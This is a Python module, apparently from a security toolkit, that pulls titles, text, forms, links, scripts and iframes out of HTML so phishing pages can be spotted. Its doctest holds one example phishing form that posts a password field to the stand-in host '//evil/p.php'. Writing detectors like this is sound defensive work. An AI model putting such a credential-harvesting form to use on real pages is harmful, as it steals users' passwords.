"""What a page shows and where it sends things: title, visible text, forms, links, scripts and frames.

For a phishing page the tell is a form that asks for a password and posts it off-site, or a script or
frame loaded from elsewhere. Each goes in one short section, so that a teacher reading a few hundred
tokens sees all of them; the visible text comes from the same walk (scripts and styles skipped).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from distilsec.data.views._text import squash

__all__ = ["is_html", "html_findings", "MAX_HTML_CHARS"]

#: Characters of a page parsed at most (forms and the start of the body are well inside this).
MAX_HTML_CHARS = 256 * 1024
_MAX_ITEMS = 12
_MAX_TEXT = 400
_HIDDEN = frozenset({"script", "style", "noscript", "template", "svg", "head"})
_PAGE = re.compile(r"(?i)<(?:!doctype|html|body|form)[\s>/]")
_LOOKS_HTML = re.compile(
    r"(?i)<(?:!doctype|html|head|body|form|input|title|meta|link|script|iframe|div|span|p|a|img|table|style)[\s>/]"
)


def is_html(text: str) -> bool:
    """A page: holds ``<html``, ``<form``, ``<body`` or ``<!doctype``; or a fragment: starts with a common
    tag (``<div``, ``<a``, ``<script``...). A command that merely starts with ``<`` (``<Esc>:wq``) or quotes
    a tag (``sed 's/<title>/x/'``) is not one."""
    if "<" not in text:
        return False
    if _PAGE.search(text, 0, 64 * 1024):
        return True
    return bool(_LOOKS_HTML.match(text.lstrip()))


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.title: list[str] = []
        self.text: list[str] = []
        self.text_len = 0
        self.forms: list[str] = []
        self.links: list[str] = []
        self.scripts: list[str] = []
        self.iframes: list[str] = []
        self.hidden = 0
        self.in_title = False

    @staticmethod
    def _add(items: list[str], value: str | None) -> None:
        value = squash(value or "")[:120]
        if value and value not in items and len(items) < _MAX_ITEMS:
            items.append(value)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k.lower(): v for k, v in attrs}
        if tag == "title":
            self.in_title = True
        elif tag == "body":
            self.hidden = 0  # an unclosed <head> or <noscript> must not hide the page
        elif tag in _HIDDEN:
            self.hidden += 1
        if tag == "form":
            method = squash(a.get("method") or "get").lower()[:8]
            self._add(self.forms, f"form {method} {a.get('action') or '(none)'}")
        elif tag in ("input", "select", "textarea", "button"):
            kind = (a.get("type") or ("text" if tag == "input" else tag)).lower()
            name = a.get("name") or a.get("id") or a.get("placeholder") or ""
            self._add(self.forms, f"{kind}:{name}" if name else kind)
        elif tag == "a":
            self._add(self.links, a.get("href"))
        elif tag == "script":
            self._add(self.scripts, a.get("src"))
        elif tag in ("iframe", "frame", "embed", "object"):
            self._add(self.iframes, a.get("src") or a.get("data"))
        elif tag == "meta" and (a.get("http-equiv") or "").lower() == "refresh":
            self._add(self.links, "refresh " + (a.get("content") or ""))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        hidden = self.hidden
        self.handle_starttag(tag, attrs)
        self.hidden = hidden
        self.in_title = self.in_title and tag != "title"

    def handle_endtag(self, tag: str) -> None:
        if tag == "title":
            self.in_title = False
        elif tag in _HIDDEN and self.hidden:
            self.hidden -= 1

    def handle_data(self, data: str) -> None:
        if self.in_title:
            self.title.append(data)
        elif not self.hidden and self.text_len < _MAX_TEXT:
            data = squash(data)
            if data:
                self.text.append(data)
                self.text_len += len(data) + 1


def html_findings(text: str) -> list[tuple[str, str]]:
    """Sections of a page: ``html-title``, ``html-text``, ``html-forms``, ``html-links``, ``html-scripts``,
    ``html-iframes`` (empty ones left out; none for a text that is not HTML).

    >>> html_findings('<form action="//evil/p.php" method=post><input type=password name=pw></form>')
    [('html-forms', 'form post //evil/p.php ; password:pw')]
    """
    if not is_html(text):
        return []
    parser = _Collector()
    try:
        parser.feed(text[:MAX_HTML_CHARS])
        parser.close()
    except Exception:  # noqa: BLE001  (broken markup: keep what was collected before the error)
        pass
    sections = [
        ("html-title", squash(" ".join(parser.title))[:200]),
        ("html-text", " ".join(parser.text)[:_MAX_TEXT]),
        ("html-forms", " ; ".join(parser.forms)),
        ("html-links", " ; ".join(parser.links)),
        ("html-scripts", " ; ".join(parser.scripts)),
        ("html-iframes", " ; ".join(parser.iframes)),
    ]
    return [(k, v) for k, v in sections if v]
